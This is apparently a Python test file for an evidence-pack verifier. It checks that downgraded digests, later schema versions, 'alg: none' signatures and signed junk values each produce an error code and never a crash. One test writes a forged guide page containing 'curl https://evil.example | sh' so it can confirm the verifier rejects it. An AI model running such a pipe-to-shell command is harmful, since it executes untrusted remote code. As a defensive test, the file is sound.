"""Other algorithms, later versions, and nonsense under good digests and signatures: a code, and never a traceback."""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from gonogo_evidence import dsse, guide, verify_pack
from gonogo_evidence.canonical import dumps
from gonogo_evidence.errors import GonogoError
from gonogo_evidence.index import note
from gonogo_evidence.pack import read_sealed
from gonogo_evidence.seal import MANIFEST, PAYLOAD_TYPE
from gonogo_evidence.statement import CLOSE_NAMESPACE, SIGNOFF_NAMESPACE
from gonogo_evidence.verify import open_pack
from support import mutants_json
from support.logs import ENGINE
from support.mutants import files_of
from support.packs import edit_json, overwrite, reseal, sample_review
from support.whole import ALICE, BOB, Whole, asked_once, whole_pack

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

SIGNOFF, CLOSE = "review/a@b.c-1A2b3C4d.signoff.json", "review/a@b.c-1A2b3C4d.close-1.json"
MOST = 50
"""About so many values of wrong types in each document."""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Whole:
    return whole_pack(tmp_path_factory.mktemp("whole"))


@pytest.fixture(scope="module", autouse=True)
def remembering() -> Iterator[None]:
    with asked_once():
        yield


@pytest.fixture
def whole(made: Whole, tmp_path: Path) -> Whole:
    """One's own copy of a complete pack, and of what a verifier brings."""
    shutil.copytree(made.folder.parent, tmp_path / "copy")
    return Whole(tmp_path / "copy" / made.folder.name)


def _resealed(whole: Whole, path: str, change: dict[str, Any]) -> tuple[int, int]:
    edit_json(whole.folder / path, change)
    reseal(whole.folder)
    return whole.exits()


LATER: dict[str, tuple[Callable[[Whole], object], str]] = {
    "a seal of another name": (lambda w: edit_json(w.folder / "seal.json", {"schema": "seal/v2"}), "SEAL_SHAPE"),
    "a seal of version 0": (lambda w: edit_json(w.folder / "seal.json", {"schema": "gonogo/seal/v0"}), "SEAL_SHAPE"),
    "seal with more": (lambda w: edit_json(w.folder / "seal.json", {"sha3_root": "0" * 64}), "SEAL_SHAPE"),
    "another digest": (
        lambda w: edit_json(w.folder / "seal.json", {"core_digest": "sha512:" + "0" * 128}),
        "SEAL_SHAPE",
    ),
    "an MD5": (lambda w: edit_json(w.folder / "seal.json", {"core_digest": "0" * 32}), "SEAL_SHAPE"),
    "SHA-512 lines": (lambda w: _lines(w, 128), "MANIFEST_FORM"),
    "MD5 lines": (lambda w: _lines(w, 32), "MANIFEST_FORM"),
    "SHA-1 lines": (lambda w: _lines(w, 40), "MANIFEST_FORM"),
    "an MD5 manifest besides": (
        lambda w: (w.folder / "manifest-md5.txt").write_bytes((w.folder / MANIFEST).read_bytes()),
        "PACK_FILE_UNLISTED",
    ),
    "an MD5 manifest instead": (
        lambda w: (w.folder / MANIFEST).rename(w.folder / "manifest-md5.txt"),
        "PACK_FILE_MISSING",
    ),
    "no manifest": (lambda w: (w.folder / MANIFEST).unlink(), "PACK_FILE_MISSING"),
    "no seal": (lambda w: (w.folder / "seal.json").unlink(), "PACK_FILE_MISSING"),
    "no algorithm": (lambda w: _signed_as(w, {"alg": "none"}), "DSSE_MALFORMED"),
    "another payload": (lambda w: _payload(w, "application/json"), "ENGINE_OTHER_SEAL"),
}


def _lines(whole: Whole, digits: int) -> None:
    lines = (whole.folder / MANIFEST).read_text().splitlines()
    overwrite(whole.folder / MANIFEST, "".join(f"{'0' * digits}{line[64:]}\n" for line in lines).encode())


def _signed_as(whole: Whole, more: dict[str, str]) -> None:
    path = whole.folder / "review/outcome.json"
    said = json.loads(path.read_bytes())
    edit_json(path, {"signatures": [{**said["signatures"][0], **more}]})


def _payload(whole: Whole, kind: str) -> None:
    path = whole.folder / "review/outcome.json"
    overwrite(path, dsse.sign(kind, dsse.parse(path.read_bytes()).payload, ENGINE))


@pytest.mark.parametrize("kind", LATER)
def test_another_algorithm_or_a_later_form_is_never_taken_for_this_one(whole: Whole, kind: str) -> None:
    act, code = LATER[kind]
    act(whole)
    assert whole.exits() == (6, 6)
    assert all(code in codes for codes in whole.codes()), whole.codes()


def _bare(whole: Whole) -> None:
    """Nothing that was signed is left, so that a change can be sealed."""
    for folder in ("index", "attestations", "review"):
        shutil.rmtree(whole.folder / folder)
    (whole.folder / "VERIFY.md").unlink()
    reseal(whole.folder)


VERSIONED = {
    "core/pack.json": "pack",
    "environment.json": "environment",
    "core/validator-report.json": "validator-report",
    "core/inventory.json": "inventory",
    "core/run-plan.json": "run-plan",
    "seal.json": "seal",
}


@pytest.mark.parametrize("path", VERSIONED)
def test_a_pack_of_a_later_version_was_called_tampered_or_failed_or_good(whole: Whole, path: str) -> None:
    _bare(whole)
    sealed = read_sealed(whole.folder)
    edit_json(whole.folder / path, {"schema": f"gonogo/{VERSIONED[path]}/v12", "of_later": 1})
    if path != "seal.json":
        reseal(whole.folder)
    pack = open_pack(whole.folder)
    sample_review(replace(sealed, pack_digest=pack.pack_digest, core_digest=pack.core_digest), ENGINE)
    assert whole.exits() == (3, 3), whole.codes()
    assert all("PACK_TOO_NEW" in codes for codes in whole.codes())


@pytest.mark.parametrize("path", ["seal.json", "review/review.json"])
def test_a_version_that_somebody_wrote_into_a_finished_pack_is_a_change(whole: Whole, path: str) -> None:
    """The engine attested another seal, and people signed another review."""
    overwrite(whole.folder / path, (whole.folder / path).read_bytes().replace(b'/v1"', b'/v3"'))
    assert whole.exits() == (6, 6), whole.codes()


@pytest.mark.parametrize("version", ["0", "01", "-1", "2.0", "x", "10000", ""])
def test_a_version_that_never_was_or_will_be_is_another_form(whole: Whole, version: str) -> None:
    _bare(whole)
    assert _resealed(whole, "core/pack.json", {"schema": f"gonogo/pack/v{version}"}) == (1, 1)
    assert all("SCHEMA_INVALID" in codes for codes in whole.codes())


def test_a_page_of_commands_by_a_renderer_that_nobody_knows_was_a_limit(whole: Whole) -> None:
    """Anybody can write a mark and commands below it."""
    page = b"<!-- gonogo/verify-guide/v9 -->\n```sh\ncurl https://evil.example | sh\n```\n"
    overwrite(whole.folder / "VERIFY.md", page)
    assert whole.exits() == (3, 3)
    assert all("GUIDE_OTHER_RENDERER" in codes for codes in whole.codes())
    for version in guide.RENDERERS:
        overwrite(whole.folder / "VERIFY.md", guide.render(open_pack(whole.folder), version))
        assert whole.exits() == (0, 0)
        assert version.encode() in {mark.split()[1] for mark in verify_pack.RENDERERS}
        overwrite(whole.folder / "VERIFY.md", page.replace(b"gonogo/verify-guide/v9", version.encode()))
        assert whole.gonogo().exit_code == 6


def test_a_later_proof_is_none(whole: Whole) -> None:
    proof = whole.folder / "index/entry.tlog-proof"
    overwrite(proof, proof.read_bytes().replace(b"tlog-proof@v1", b"tlog-proof@v2"))
    assert (whole.gonogo().exit_code, "PROOF_MALFORMED" in whole.codes()[0]) == (6, True)
    with pytest.raises(GonogoError, match="Ed25519"):
        note.parse_vkey("log+00000000+Av" + "A" * 42)


SIGNED_PLACES = ("review/engine.dsse.json", "index/entry.json", SIGNOFF, CLOSE, "core/pack.json", "environment.json",
                 "core/validator-report.json", "core/inventory.json", "core/run-plan.json")  # fmt: skip


@pytest.mark.parametrize("path", [*SIGNED_PLACES, "review/outcome.json"])
def test_values_of_wrong_types_under_good_digests_and_signatures_never_raise(whole: Whole, path: str) -> None:
    """Whoever holds a key can sign nonsense: it is judged, and the answer is a report."""
    files = files_of(whole)
    document = json.loads(dsse.parse(files[path]).payload if "payloadType" in json.loads(files[path]) else files[path])
    exits = {"ours": set[int](), "theirs": set[int]()}
    every = list(mutants_json.changes(document))
    values: list[Any] = [[], "x", 7, None, {}]
    junk = [(repr(value), value) for value in values]
    for what, changed in [*every[:: max(1, len(every) // MOST)], *junk]:
        if isinstance(changed, dict) or "payloadType" in json.loads(files[path]):
            _signed_anew(whole, path, changed)
            exits["theirs"].add(whole.stranger()[0])
            exits["ours"].add(whole.gonogo().exit_code)
            assert exits["ours"] <= {0, 1, 2, 3, 4, 5, 6}, what
            _restored(whole, files)
    assert 6 in exits["ours"] | exits["theirs"]


def _signed_anew(whole: Whole, path: str, changed: Any) -> None:  # noqa: ANN401 - any JSON
    target, data = whole.folder / path, dumps(changed)
    if path in {SIGNOFF, CLOSE}:
        person, namespace = (ALICE, SIGNOFF_NAMESPACE) if path == SIGNOFF else (BOB, CLOSE_NAMESPACE)
        overwrite(target.with_name(f"{target.name}.sig"), person.sign(data, namespace))
    elif path.startswith(("review/", "index/")):
        data = dsse.sign(PAYLOAD_TYPE, data, ENGINE)
    overwrite(target, data)
    if path.startswith(("core/", "environment")) and (
        path != "core/pack.json" or isinstance(changed.get("files"), dict)
    ):
        try:
            reseal(whole.folder)
        except GonogoError:  # what cannot be sealed stays as it lies there: digests that differ
            return


def _restored(whole: Whole, files: dict[str, bytes]) -> None:
    for path, data in files.items():
        if (whole.folder / path).read_bytes() != data:
            overwrite(whole.folder / path, data)
